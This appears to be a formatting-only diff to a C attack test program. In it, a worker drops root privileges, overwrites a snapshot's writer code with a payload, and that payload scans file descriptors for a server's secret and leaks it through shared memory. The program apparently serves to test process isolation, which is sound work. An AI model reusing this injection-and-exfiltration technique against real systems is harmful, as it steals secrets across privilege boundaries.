@@ -1,6 +1,7 @@
-/* A server of root and its worker, who gives up rights as argv[2] says and then attacks: it writes over the code with which its
- * snapshot is to write itself. That code, if it ever runs, looks for the server's secret in each descriptor that it finds, and leaves
- * it in memory that the worker shares with it; the worker writes it to `won`. argv[1]: scratch directory; argv[3]: the user that it becomes. */
+/* A server of root and its worker, who gives up rights as argv[2] says and then attacks: it writes over the code with
+ * which its snapshot is to write itself. That code, if it ever runs, looks for the server's secret in each descriptor
+ * that it finds, and leaves it in memory that the worker shares with it; the worker writes it to `won`. argv[1]:
+ * scratch directory; argv[3]: the user that it becomes. */
 #define _GNU_SOURCE
 #include <dlfcn.h>
 #include <fcntl.h>
@@ -35,12 +36,16 @@ static inline __attribute__((always_inline)) long call(long number, long a, long
 }
 
 /* In the snapshot, in place of the writer: only system calls, no address but the loot's. */
-static __attribute__((noinline, noclone, aligned(64), optimize("O1,no-stack-protector,no-tree-loop-distribute-patterns"))) void payload(void) {
+static __attribute__((noinline, noclone, aligned(64),
+                      optimize("O1,no-stack-protector,no-tree-loop-distribute-patterns"))) void
+payload(void) {
     struct loot *loot = (struct loot *)LOOT;
     loot->ran = 1;
     for (;;) {
         for (int fd = 0; fd < DESCRIPTORS; fd++)
-            if (call(SYS_pread64, fd, (long)loot->text, sizeof loot->text, 0) > 0 && loot->text[0] == 'S' && loot->text[1] == 'E') loot->found = 1;
+            if (call(SYS_pread64, fd, (long)loot->text, sizeof loot->text, 0) > 0 && loot->text[0] == 'S' &&
+                loot->text[1] == 'E')
+                loot->found = 1;
     }
 }
 
@@ -53,7 +58,9 @@ static void change_writer(void) {
 }
 
 static void become(void) {
-    if (syscall(SYS_setgroups, 0, NULL) || syscall(SYS_setresgid, user, user, user) || syscall(SYS_setresuid, user, user, user)) abort();
+    if (syscall(SYS_setgroups, 0, NULL) || syscall(SYS_setresgid, user, user, user) ||
+        syscall(SYS_setresuid, user, user, user))
+        abort();
 }
 
 static void announce(const char *name) {
@@ -110,7 +117,8 @@ int main(int argc, char **argv) {
     directory = argv[1];
     way = argv[2];
     user = atoi(argv[3]);
-    struct loot *loot = mmap((void *)LOOT, sizeof *loot, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
+    struct loot *loot = mmap((void *)LOOT, sizeof *loot, PROT_READ | PROT_WRITE,
+                             MAP_SHARED | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
     if (loot == MAP_FAILED) abort();
     int ready[2];
     char byte;
